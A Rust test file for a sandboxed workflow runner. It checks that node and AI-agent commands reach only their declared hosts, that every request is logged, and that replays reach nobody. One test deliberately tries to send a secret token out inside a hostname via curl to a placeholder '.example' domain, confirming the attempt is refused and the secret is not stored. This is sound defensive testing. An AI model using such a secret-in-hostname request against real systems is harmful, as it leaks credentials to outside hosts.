//! Commands of nodes that reach the hosts their node names, through the built program and a real sandbox, and those that
//! reach nobody.

use serde_json::Value;

use super::lab::{Lab, files_with};
use super::server::Server;

/// A project with a node that asks for these addresses, one after the other.
fn asking(network: &str, urls: &[&str], settings: &str) -> Lab {
    let lab = Lab::new();
    lab.settings(settings);
    let asks: Vec<String> = urls
        .iter()
        .map(|url| format!("curl --noproxy '' -sS -o out -w '%{{http_code}} ' '{url}' || echo none"))
        .collect();
    lab.blueprint(
        "ask",
        &format!(
            "[defaults]\nshell = \"sh\"\n\n[nodes.ask]\nrun = '''\ncd /tmp\n{}\necho\n'''\n{network}\n",
            asks.join("\n")
        ),
    );
    lab
}

fn record(lab: &Lab) -> Value {
    lab.show(&lab.run(), "ask")["record"].clone()
}

#[test]
fn a_command_reaches_the_hosts_of_its_node_and_every_request_is_on_record() {
    let (server, other) =
        (Server::answering(vec![("200 OK", "fine")]), Server::answering(vec![("200 OK", "")]));
    let (here, there) = (server.address.to_string(), other.address.to_string());
    let urls = [format!("http://{here}/a"), format!("http://{there}/b"), "https://example.org/".to_owned()];
    let urls: Vec<&str> = urls.iter().map(String::as_str).collect();
    let ours = "[egress]\nprivate = [\"127.0.0.1:*\"]\n";
    let lab = asking(&format!("network = [\"{here}\"]"), &urls, ours);
    let said = lab.say(&["run", "ask"]).ends(0);
    said.mentions("200 403 000 none");
    assert_eq!(server.seen().len(), 1);
    assert!(other.seen().is_empty());

    let egress = record(&lab)["egress"].clone();
    let requests = egress["requests"].as_array().unwrap();
    assert_eq!(requests.len(), 3, "{egress}");
    assert_eq!((&requests[0]["method"], &requests[0]["host"]), (&"GET".into(), &here.clone().into()));
    assert_eq!(requests[0]["status"], 200);
    assert!(requests[0]["up"].as_u64() > Some(20) && requests[0]["down"].as_u64() > Some(20), "{egress}");
    assert!(requests[1]["refused"].as_str().unwrap().contains("is not one of the hosts"), "{egress}");
    assert_eq!(requests[2]["method"], "CONNECT");
    assert_eq!(egress["more"], 0);
    let shown = lab.show(&lab.run(), "ask");
    assert_eq!(shown["attestation"]["network"]["proxied"]["hosts"][0], here);
    let said = lab.say(&["show", &lab.run(), "ask"]).ends(0);
    assert!(said.out.contains(&format!("  GET {here}: 200 (")), "{said}");
    lab.verify(&lab.run());

    // The same command without the key, and with the key but not the user's word.
    for (network, settings, said) in [
        (String::new(), ours, "000 none"),
        (format!("network = [\"{here}\"]"), "", "403"),
        ("network = []".to_owned(), ours, "000 none"),
    ] {
        let lab = asking(&network, &urls[..1], settings);
        lab.say(&["run", "ask"]).ends(0).mentions(said);
        let none = lab.show(&lab.run(), "ask");
        assert!(!settings.is_empty() || none["record"]["egress"]["requests"][0]["refused"].is_string());
    }
    assert_eq!(server.seen().len(), 1);
}

/// A failed node has its requests on record as well, and more of them than are listed are counted.
#[test]
fn what_a_failed_command_asked_for_is_on_record() {
    let lab = Lab::new();
    lab.blueprint(
        "ask",
        "[defaults]\nshell = \"sh\"\n\n[nodes.ask]\nrun = '''\nfor i in $(seq 203); do echo http://a.example/; done | xargs curl -s -o /dev/null\nexit 3\n'''\nnetwork = [\"b.example\"]\n",
    );
    lab.say(&["run", "ask"]).ends(1);
    let egress = record(&lab)["egress"].clone();
    assert_eq!(egress["requests"].as_array().unwrap().len(), 200);
    assert_eq!(egress["more"], 3);
}

/// A secret in the name of a host is refused like any other host, and is not kept.
#[test]
fn a_secret_in_a_name_goes_nowhere_and_is_not_kept() {
    let secret = "s3cr3tzx81correcthorsebattery";
    let lab = Lab::new();
    lab.blueprint(
        "ask",
        "[inputs]\ntoken = { type = \"secret\" }\n\n[nodes.ask]\nshell = \"sh\"\nrun = 'curl -sS -o /dev/null \"http://$TOKEN.example/\"'\nenv = { TOKEN = \"inputs.token\" }\nnetwork = [\"b.example\"]\n",
    );
    lab.say_with(&[("TOKEN", secret)], &["run", "ask", "--secret", "token=env:TOKEN"]).ends(0);
    assert_eq!(record(&lab)["egress"]["requests"].as_array().unwrap().len(), 1);
    assert!(files_with(&lab.state(), secret.as_bytes()).is_empty());
}

/// What an agent runs in its sandbox reaches the hosts of the agent, whoever wrote it; played again it reaches nobody.
#[test]
fn what_an_agent_runs_reaches_the_hosts_of_the_agent() {
    agents_reach("", "", "curl --noproxy '' -sS -o /tmp/out -w '%{http_code}' http://HERE/");
}

#[test]
fn what_an_agent_runs_in_a_virtual_machine_reaches_the_hosts_of_the_agent() {
    let Some(machine) = super::tiers::machine() else { return };
    let settings = format!("{machine}[tiers]\nuntrusted = \"microvm\"\n");
    // The machine of the tests has no curl.
    let ask = "python3 -c 'import urllib.request; print(urllib.request.urlopen(`http://HERE/`).status)'";
    agents_reach(&settings, "tier = \"untrusted\"\n", &ask.replace('`', "\\\""));
}

fn agents_reach(settings: &str, tier: &str, ask: &str) {
    let server = Server::answering(vec![("200 OK", "fine")]);
    let here = server.address.to_string();
    let ask = ask.replace("HERE", &here);
    let lab = Lab::in_git();
    lab.settings(&format!("{settings}[egress]\nprivate = [\"127.0.0.1:*\"]\n"));
    lab.write(
        "blueprints/ask/model.toml",
        &format!("[[turn]]\n[[turn.call]]\ntool = \"shell\"\nargs = {{ command = \"{ask}\" }}\n[[turn]]\ntext = \"Done.\"\n"),
    );
    lab.blueprint(
        "ask",
        &format!(
            "[nodes.ask]\n{tier}agent = {{ prompt = \"Ask.\", model = \"scripted/model.toml\" }}\ntools = [\"shell\"]\nnetwork = [\"{here}\"]\n\n[nodes.other]\n{tier}needs = [\"ask\"]\nagent = {{ command = [\"sh\", \"-c\", \"{ask}\"], prompt = \"Ask.\" }}\nnetwork = [\"{here}\"]\n\n[nodes.none]\n{tier}needs = [\"other\"]\nagent = {{ command = [\"sh\", \"-c\", \"{ask} || true\"], prompt = \"Ask.\" }}\n"
        ),
    );
    lab.say(&["run", "ask"]).ends(0);
    let run = lab.run();
    for node in ["ask", "other"] {
        let record = lab.show(&run, node)["record"].clone();
        assert_eq!(record["egress"]["requests"][0]["status"], 200, "{node}: {record}");
    }
    assert_eq!(lab.show(&run, "none")["record"]["egress"], Value::Null);
    assert_eq!(server.seen().len(), 2);

    drop(lab.say(&["replay", &run]));
    let again = lab.show(&lab.run(), "ask")["record"].clone();
    assert_ne!(lab.run(), run);
    assert!(again["egress"]["requests"][0]["refused"].as_str().unwrap().contains("outside world"), "{again}");
    assert_eq!(server.seen().len(), 2, "a replay reaches nobody");
}
